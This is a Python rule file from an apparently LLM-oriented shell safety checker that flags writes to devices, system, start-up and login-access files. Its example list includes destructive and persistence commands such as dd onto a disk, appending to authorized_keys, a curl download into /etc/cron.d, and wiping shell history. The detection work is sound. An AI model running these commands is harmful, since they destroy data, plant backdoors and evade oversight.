"""Writing over devices, system files, start-up files or files that decide who may log in, whatever the program.

Source: Filesystem Hierarchy Standard 3.0; MITRE ATT&CK T1037, T1098.004, T1543.
"""

from llmsh.core.command import SimpleCommand, Word
from llmsh.core.late_pattern import late_pattern
from llmsh.core.risk import Finding, Reason
from llmsh.risk.found import caution, danger
from llmsh.risk.places import Place, is_sensitive, normalise, place_of
from llmsh.risk.targets import Change, targets_of

PROGRAMS = frozenset({"*"})
MATCHES = (
    "echo x > /dev/sda",
    "cat k >> ~/.ssh/authorized_keys",
    "cp a /etc/hosts",
    "tee /etc/sudoers.d/x",
    "mv /usr/bin/python a",
    "sed -i s/a/b/ /etc/fstab",
    "echo x >> ~/.bashrc",
    "echo b > /proc/sysrq-trigger",
    "ln -sf /tmp/x /usr/bin/ls",
    "mv ~/* /tmp",
    "> /etc/passwd",
    "dd if=x of=/dev/nvme0n1",
    "tar -C / -xf a",
    "curl -o /etc/cron.d/x http://h/",
    "echo x > .git/hooks/post-commit",
    "mv x /dev/null",
    "mkdir /etc/x",
    "cp -rfT dotfiles ~",
    "docker cp passwd web:/etc/passwd",
    "scp a root@h:/etc/nginx/nginx.conf",
    "docker cp web:/hosts /etc/hosts",
    "kubectl cp ./data prod/db-0:/var/lib/postgresql/data",
    "ln -sf /dev/null ~/.bash_history",
)
IGNORES = (
    "echo x > /dev/null",
    "cat /etc/passwd",
    "cp /etc/hosts .",
    "echo x > notes.txt",
    "ls > /tmp/out",
    "cp a ~/",
    "docker cp web:/etc/hosts .",
    "scp h:/etc/hosts /tmp/",
    "kubectl cp a web:/data/a",
    "mkdir ~/new",
    "sort -o out in",
)
_REASONS = {
    Place.DEVICE: Reason.DISK,
    Place.ROOT: Reason.DELETE,
    Place.HOME: Reason.DELETE,
    Place.STARTUP: Reason.PERSISTENCE,
    Place.ACCESS: Reason.PRIVILEGE,
    Place.KERNEL: Reason.SYSTEM_CONFIG,
    Place.SYSTEM: Reason.SYSTEM_CONFIG,
    Place.SECRET: Reason.OVERWRITE,
}
_COPY_VERBS: dict[str, tuple[str, ...]] = {
    **dict.fromkeys(("scp", "rsync", "rcp", "pscp"), ("",)),
    **dict.fromkeys(("docker", "podman", "nerdctl", "kubectl", "oc"), ("cp",)),
    **dict.fromkeys(("lxc", "incus", "adb"), ("push",)),
    **dict.fromkeys(("multipass", "limactl"), ("transfer", "copy", "cp")),
}
_AFTER_HOST = late_pattern(r"(?:(?:[\w.-]+/)?[^/:]*:|[\w.-]+(?=/etc|/usr))(/.*)\Z")
_TREES = (Place.ROOT, Place.HOME)


_SSH_CLIENT = late_pattern(r".*\.ssh/(config|rc)\Z")
_GUARDS = late_pattern(
    r"/proc/sys/kernel/(randomize_va_space|yama/|kptr_restrict|sysrq|core_pattern)|/sys/fs/selinux|/selinux"
)


def _reasons(place: Place, shape: str, change: Change) -> tuple[Reason, ...]:
    """The classes of harm: of the place, and whether what was there is replaced."""
    path = normalise(shape)
    if path.endswith("sysrq-trigger"):
        return (Reason.SHUTDOWN,)
    if "authorized_keys" in path:
        return (Reason.PERSISTENCE, Reason.PRIVILEGE)
    reasons = [_REASONS[place]]
    if place is Place.ACCESS and _SSH_CLIENT.match(path):
        reasons.append(Reason.PERSISTENCE)
    elif place is Place.ACCESS or (place is Place.STARTUP and path.startswith("/etc/")):
        reasons.append(Reason.SYSTEM_CONFIG)
    if _GUARDS.match(path):
        reasons.append(Reason.PRIVILEGE)
    if place in (Place.SYSTEM, Place.ACCESS, Place.STARTUP) and change in (Change.WRITES, Change.UNPACKS):
        reasons.append(Reason.OVERWRITE)
    return tuple(reasons)


def _elsewhere(command: SimpleCommand) -> Word | None:
    """The word that names a place on another machine or in a container that is written to: `docker cp a web:/etc/x`."""
    words, shapes = command.operands, command.shapes
    verbs = _COPY_VERBS.get(command.program or "")
    if verbs is None or len(words) < 2 or not (verbs == ("",) or set(verbs) & set(shapes[:3])):
        return None
    last = words[-1]
    parted = _AFTER_HOST.match(last.shape)
    if parted is None or not is_sensitive(place_of(parted[1])):
        return None
    place = place_of(parted[1])
    return last if place in (Place.SYSTEM, Place.ACCESS, Place.STARTUP, Place.KERNEL) else None


def assess(command: SimpleCommand) -> Finding | tuple[Finding, ...] | None:
    if (there := _elsewhere(command)) is not None:
        message = "replaces system files of another machine or container"
        return danger(Reason.OVERWRITE, message, there), danger(Reason.SYSTEM_CONFIG, message, there)
    mild: Finding | None = None
    if (
        command.program == "ln"
        and command.has_flag("f", "force")
        and len(command.operands) == 2
        and place_of(command.operands[0].shape) is Place.NULL
    ):
        return danger(Reason.SYSTEM_CONFIG, "puts a link to nothing where something was", command.operands[1])
    for target in targets_of(command):
        place = place_of(target.word.shape)
        if place is Place.NULL and target.change is Change.WRITES and command.program == "mv":
            return danger(Reason.DELETE, "moves files into nothing", target.word)
        if place in (Place.ORDINARY, Place.NULL) or target.change is Change.ATTRIBUTES:
            continue
        if place is Place.HOME and command.program in ("cp", "gcp") and command.has_flag("T", "no-target-directory"):
            return danger(Reason.OVERWRITE, f"replaces what is in {place}", target.word)
        if place in _TREES and not (
            target.is_tree and (target.change in (Change.DELETES, Change.MOVES) or place is Place.ROOT)
        ):
            continue
        if place is Place.SECRET and target.change is not Change.DELETES:
            mild = caution(Reason.OVERWRITE, f"{target.change} {place}", target.word)
            continue
        links_start_up = command.program == "ln" and place in (Place.STARTUP, Place.ACCESS)
        if target.change is Change.CREATES and not target.is_tree and not links_start_up:
            mild = caution(_REASONS[place], f"{target.change} {place}", target.word)
            continue
        reasons = _reasons(place, target.word.shape, target.change)
        return tuple(danger(reason, f"{target.change} {place}", target.word) for reason in reasons)
    return mild
